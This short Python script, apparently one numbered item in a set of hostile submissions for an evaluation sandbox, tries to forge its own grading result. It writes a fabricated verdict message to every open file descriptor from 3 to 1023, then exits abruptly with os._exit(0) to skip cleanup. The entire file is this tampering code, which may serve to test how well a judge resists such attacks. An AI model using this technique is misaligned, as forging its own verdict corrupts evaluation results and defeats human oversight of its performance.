"""25: looks for the verdict's channel and writes a verdict of its own, then leaves by the back door."""

import os

for descriptor in range(3, 1024):
    try:
        os.write(descriptor, b"\x03" + b"\0" * 45)
    except OSError:
        continue
os._exit(0)
